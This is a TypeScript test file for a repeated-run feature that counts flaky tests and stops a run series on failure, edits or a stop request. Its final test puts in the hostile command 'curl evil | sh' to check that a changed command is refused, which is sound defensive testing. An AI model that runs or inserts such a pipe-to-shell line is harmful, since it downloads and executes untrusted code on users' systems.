import { expect, it } from "vitest";
import { activeSession } from "../../../../src/model/folder/folderState.ts";
import { type RunObserver, stopRun } from "../../../../src/sessions/run/runCommand.ts";
import { runRepeatedly } from "../../../../src/sessions/run/runRepeatedly.ts";
import { startSession } from "../../../../src/sessions/startSession.ts";
import { Sessions } from "../../../../src/sessions/state/sessions.ts";
import { editSection } from "../../../../src/sessions/writeEntries.ts";
import { confirmed } from "../../../support/sessions/confirmed.ts";
import { ends, FakeWorld, report } from "../../../support/sessions/fakePorts.ts";

const unwatched: RunObserver = { onOutput: () => undefined, onProcess: () => undefined };

const green = () => ends(report(["a", "b"]));
const red = () => ends(report(["a"], { b: "500" }));

async function started(...runs: readonly Parameters<FakeWorld["runs"]["push"]>[0][]) {
  const world = new FakeWorld();
  const sessions = new Sessions("/project", world.ports, (error) => {
    throw error;
  });
  await startSession(sessions, { sections: { title: "t", isolationCommand: "npm test" } });
  world.runs.push(...runs);
  const repeat = (times: number, untilFailure: boolean, observer = unwatched) =>
    runRepeatedly(sessions, { ...confirmed(sessions), times, untilFailure }, observer);
  const attempts = () => activeSession(sessions.state)?.attempts ?? [];
  return { world, sessions, repeat, attempts };
}

it("runs as often as asked, as runs of one attempt, and tells the share of every test that changes", async () => {
  const { repeat, attempts } = await started(green(), red(), green(), red());
  expect(await repeat(4, false)).toMatchObject({
    runs: 4,
    failed: 2,
    ended: "done",
    flaky: [{ name: "b", failed: 2, of: 4 }],
  });
  expect(attempts().map(({ runs }) => runs.length)).toEqual([4]);
});

it("stops at the first red run where that is asked", async () => {
  const { repeat, world } = await started(green(), red(), green());
  expect(await repeat(3, true)).toMatchObject({ runs: 2, failed: 1, ended: "failed" });
  expect(world.runs).toHaveLength(1);
});

it("stops where the code is edited: the next run is another attempt's", async () => {
  const { repeat, world, attempts } = await started(green(), green(), green());
  let count = 0;
  const edit = () => {
    count++;
    world.tree = count === 1 ? "edited" : world.tree;
  };
  expect(await repeat(3, false, { ...unwatched, onOutput: edit })).toMatchObject({
    runs: 1,
    ended: "edited",
  });
  expect(attempts()).toHaveLength(2);
});

it("stops after a run that was stopped, or that tells nothing", async () => {
  const broken = await started(green(), { exit: { kind: "exited", code: 1 } }, green());
  expect(await broken.repeat(3, false)).toMatchObject({ runs: 1, failed: 0, ended: "broken" });
  const { repeat, sessions, world } = await started(green());
  const stop = () => {
    if (world.runs.length === 0) {
      setTimeout(() => stopRun(sessions));
    }
  };
  expect(await repeat(3, false, { ...unwatched, onOutput: stop })).toMatchObject({ ended: "stopped" });
});

it("stops where the command is another one than was agreed to, and says so", async () => {
  const { repeat, sessions, world, attempts } = await started(green(), green(), green());
  const { id } = sessions.findOpen();
  const change = () =>
    void editSection(sessions, { session: id, section: "isolationCommand", text: "curl evil | sh" });
  await expect(repeat(3, false, { ...unwatched, onOutput: change })).rejects.toThrow("so nothing was run");
  expect(world.runs).toHaveLength(2);
  expect(attempts().flatMap(({ runs }) => runs.map(({ command }) => command))).toEqual(["npm test"]);
});
